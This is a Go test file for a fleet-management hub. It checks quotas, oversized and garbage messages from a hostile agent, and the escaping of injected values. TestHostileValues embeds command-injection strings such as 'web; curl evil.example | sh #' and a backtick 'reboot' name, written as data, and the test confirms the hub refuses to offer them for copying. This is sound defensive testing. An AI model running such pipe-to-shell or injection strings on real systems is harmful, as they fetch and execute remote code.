package hub_test

import (
	"context"
	"fmt"
	"net/http"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/flotilla-fleet/flotilla/api"
	agentstore "github.com/flotilla-fleet/flotilla/drift/store"
	"github.com/flotilla-fleet/flotilla/hub"
	"github.com/flotilla-fleet/flotilla/hub/hubtest"
	"github.com/flotilla-fleet/flotilla/hub/intake"
	"github.com/flotilla-fleet/flotilla/hub/proto/hubv1"
	"github.com/flotilla-fleet/flotilla/hub/view"
)

// hostile joins as an agent that sends what it likes.
func hostile(t *testing.T, h *hubtest.Hub, cluster string) *bareAgent {
	t.Helper()
	m, err := h.CreateJoinToken(t.Context(), hub.JoinTokenRequest{Cluster: cluster})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	a, err := joinBare(ctx, h, cluster, m.Token)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		a.hc.CloseIdleConnections()
	})
	return a
}

// send sends reports, some at a time, as long as they are acknowledged.
func (a *bareAgent) send(t *testing.T, reports []api.Report) {
	t.Helper()
	const some = 500
	for len(reports) > 0 {
		n := min(some, len(reports))
		if err := a.report(reports[:n]...); err != nil {
			t.Fatal(err)
		}
		reports = reports[n:]
	}
}

func (a *bareAgent) episode(n int) api.Report {
	e := &api.Episode{
		ID: api.EpisodeID{Cluster: a.cluster, Store: "evil", Seq: uint64(n)}.String(), Cluster: a.cluster, Bundle: "web",
		Object: api.ObjectRef{Kind: "ConfigMap", Namespace: "web", Name: fmt.Sprint("x", n)},
		Class:  api.ClassChanged, Onset: time.Now().Add(-time.Hour), LastSeen: time.Now(), Count: 1, Outcome: api.OutcomePending,
	}
	return api.Report{Episode: e}
}

// One cluster's episodes, however many and from whatever time, cost the others none of theirs.
func TestQuota_closedEpisodes(t *testing.T) {
	h := hubtest.Start(t, hub.Config{})
	honest := hubtest.NewAgent(t, "prod-eu", hubtest.AgentOptions{})
	honest.MustJoin(h)
	honest.Run()
	honest.Commit(hubtest.Status("prod-eu", rev1))
	for range 20 {
		e := drift(honest, "podinfo")
		e.End, e.Outcome = time.Now(), api.OutcomeCorrected
		honest.Commit(agentstore.Batch{Episodes: []api.Episode{e}})
	}
	delivered(t, honest)

	evil := hostile(t, h, "evil")
	const sent = 25_000
	reports := make([]api.Report, sent)
	for i := range reports {
		reports[i] = evil.episode(i + 1)
		reports[i].Episode.End, reports[i].Episode.Outcome = time.Now().AddDate(5, 0, 0), api.OutcomeCorrected
	}
	evil.send(t, reports)
	if got := hubtest.Get[episodes](h, "/api/v1/drift?state=closed&cluster=prod-eu").Total; got != 20 {
		t.Errorf("the other cluster has %d closed episodes left, of 20", got)
	}
	list := hubtest.Get[episodes](h, "/api/v1/drift?state=closed&cluster=evil&size=1000")
	if list.Total != 20_000 {
		t.Errorf("%d episodes of one cluster are kept, want its share of 20000", list.Total)
	}
	for _, e := range list.Items {
		if e.End.After(time.Now().Add(intake.Tolerance)) {
			t.Fatalf("episode %s ends %s", e.ID, e.End)
		}
	}
	told := map[string]bool{}
	for _, l := range hubtest.Get[view.ClusterDetail](h, "/api/v1/clusters/evil").LeftOut {
		told[l.Reason] = true
	}
	if !told[intake.BadTime] || !told[intake.TooMany] {
		t.Errorf("the cluster's JSON tells of %v, want of times and of the number", told)
	}
	if _, page := h.Do(http.MethodGet, "/c/evil", ""); !strings.Contains(string(page), "Not all of what the agent sent is shown") {
		t.Error("the cluster's page does not tell")
	}
}

// A cluster with more than any has makes neither pages nor the hub large.
func TestQuota_presentState(t *testing.T) {
	h := hubtest.Start(t, hub.Config{})
	evil := hostile(t, h, "evil")
	const sent = 20_000
	reports := make([]api.Report, 0, 2*sent)
	for i := range sent {
		reports = append(reports, api.Report{Bundle: &api.BundleStatus{
			Name: fmt.Sprint("b", i), Phase: api.PhaseFailed, Message: strings.Repeat("m", 2000), Warnings: []string{strings.Repeat("w", 2000)},
		}}, evil.episode(i+1))
		reports[len(reports)-1].Episode.Error = strings.Repeat("e", 3000)
	}
	evil.send(t, reports)
	size := func(path string) int {
		t.Helper()
		status, body := h.Do(http.MethodGet, path, "")
		if status != http.StatusOK {
			t.Errorf("%s: %d", path, status)
		}
		return len(body)
	}
	for path, most := range map[string]int{
		"/c/evil": 2 << 20, "/": 1 << 20, "/drift": 1 << 20, "/api/v1/clusters": 1 << 20,
		"/api/v1/clusters/evil": 8 << 20, "/api/v1/drift?size=1000": 24 << 20, "/api/v1/history?size=1000": 24 << 20,
	} {
		if n := size(path); n > most {
			t.Errorf("%s has %d bytes, want at most %d", path, n, most)
		}
	}
	d := hubtest.Get[view.ClusterDetail](h, "/api/v1/clusters/evil")
	if d.Bundles > 5000 || d.DriftOpen > 5000 || len(d.BundleStatus) > view.MaxPageSize || len(d.Drift) > view.MaxDrift ||
		d.Pages < 2 || d.DriftOmitted != d.DriftOpen-len(d.Drift) {
		t.Errorf("%d bundles (%d on page 1 of %d), %d open episodes (%d shown, %d not)",
			d.Bundles, len(d.BundleStatus), d.Pages, d.DriftOpen, len(d.Drift), d.DriftOmitted)
	}
	if len(d.LeftOut) == 0 {
		t.Error("nothing tells that something was left out")
	}
	seen := map[string]bool{}
	for next := "/api/v1/clusters/evil"; next != ""; {
		p := hubtest.Get[view.ClusterDetail](h, next)
		for _, b := range p.BundleStatus {
			seen[b.Name] = true
		}
		next = p.Next
	}
	if len(seen) != d.Bundles {
		t.Errorf("the pages have %d bundles of %d", len(seen), d.Bundles)
	}
	var m runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m)
	if m.HeapAlloc > 256<<20 {
		t.Errorf("the hub and its test hold %d MB", m.HeapAlloc>>20)
	}
	if n := fileSize(t, filepath.Join(h.DataDir(), "hub.db")); n > 400<<20 {
		t.Errorf("the store has %d MB", n>>20)
	}
}

// What no cluster can have is left out and told, to the agent too, and costs nothing that stands beside it.
func TestHostileValues(t *testing.T) {
	h := hubtest.Start(t, hub.Config{})
	evil := hostile(t, h, "evil")
	const shell = "web; curl evil.example | sh #"
	bad := evil.episode(1)
	bad.Episode.Bundle = shell
	object := evil.episode(2)
	object.Episode.Object.Name = "web`reboot`;x y"
	object.Episode.Hint = "curl evil.example | sh"
	for _, r := range [][]api.Report{
		{{Bundle: &api.BundleStatus{Name: shell, Phase: api.PhaseReady}}, {Bundle: &api.BundleStatus{Name: "good", Phase: api.PhaseReady}}},
		{{Bundle: &api.BundleStatus{Name: "a\nb", Phase: api.PhaseReady}}, {RemovedBundle: shell}},
		{{Status: &api.ClusterStatus{Cluster: "evil", AppliedRevision: rev1, Suspensions: []api.Suspension{
			{Name: shell, Scope: api.Scope{All: true}, Until: time.Now().Add(time.Hour)},
			{Name: "good", Scope: api.Scope{All: true}, Until: time.Now().Add(time.Hour)},
		}}}, bad, object},
	} {
		if err := evil.report(r...); err != nil {
			t.Fatal(err)
		}
	}
	if !evil.leftOut {
		t.Error("the agent was not told")
	}
	d := hubtest.Get[view.ClusterDetail](h, "/api/v1/clusters/evil")
	if len(d.BundleStatus) != 1 || d.BundleStatus[0].Name != "good" || len(d.Suspensions) != 1 || d.AppliedRevision != rev1 || d.DriftOpen != 1 {
		t.Errorf("the rest was not taken: %+v", d)
	}
	if len(d.LeftOut) == 0 || d.LeftOut[0].Reason != intake.BadName {
		t.Errorf("left out %+v, want names", d.LeftOut)
	}
	for _, path := range []string{"/c/evil", "/drift", "/drift/" + object.Episode.ID, "/"} {
		_, page := h.Do(http.MethodGet, path, "")
		for _, line := range copied(string(page)) {
			if strings.Contains(line, "curl") || strings.Contains(line, "reboot") && !strings.Contains(line, "web`reboot`;x y") {
				t.Errorf("%s offers to copy %s", path, line)
			}
			if strings.HasPrefix(line, "flotilla suspend") && !strings.Contains(line, "--context evil") {
				t.Errorf("%s offers a command that names no cluster: %s", path, line)
			}
		}
	}
}

// copied is what a page offers to copy.
func copied(page string) (out []string) {
	for _, part := range strings.Split(page, `class="line copy" tabindex="0">`)[1:] {
		line, _, _ := strings.Cut(part, "</code>")
		out = append(out, strings.NewReplacer("&#34;", `"`, "&#39;", "'", "&lt;", "<", "&gt;", ">", "&amp;", "&").Replace(line))
	}
	return out
}

// An agent that sends garbage as reports, or a snapshot nobody asked for, harms itself only.
func TestHostileMessages(t *testing.T) {
	h := hubtest.Start(t, hub.Config{})
	evil := hostile(t, h, "evil")
	for i, payload := range []string{"{", `{"bundle":` + strings.Repeat(`{"changes":[`, 10_000), strings.Repeat("\x00", 5<<20), `{"episode":{"fields":[` + strings.Repeat("{},", 1<<20) + `{}]}}`} {
		m := &hubv1.Batch{Reports: []*hubv1.Report{{Seq: uint64(i + 1), Payload: []byte(payload)}}}
		if err := evil.stream.Send(&hubv1.AgentMessage{Body: &hubv1.AgentMessage_Batch{Batch: m}}); err != nil {
			t.Fatal(err)
		}
		if err := evil.acknowledged(uint64(i + 1)); err != nil {
			t.Fatal(err)
		}
	}
	evil.seq = 4
	if err := evil.report(api.Report{Bundle: &api.BundleStatus{Name: "good", Phase: api.PhaseReady}}); err != nil {
		t.Fatal(err)
	}
	if l := hubtest.Get[view.ClusterDetail](h, "/api/v1/clusters/evil").LeftOut; len(l) != 1 || l[0].Reason != intake.Unreadable || l[0].Count != 4 {
		t.Errorf("left out %+v, want 4 unreadable reports", l)
	}
	snapshot := &hubv1.Snapshot{Last: true, Seq: 9, Checksum: api.State{}.Checksum()}
	if err := evil.stream.Send(&hubv1.AgentMessage{Body: &hubv1.AgentMessage_Snapshot{Snapshot: snapshot}}); err != nil {
		t.Fatal(err)
	}
	if _, err := evil.stream.Receive(); err == nil {
		t.Error("a snapshot was taken that nobody asked for")
	}
}
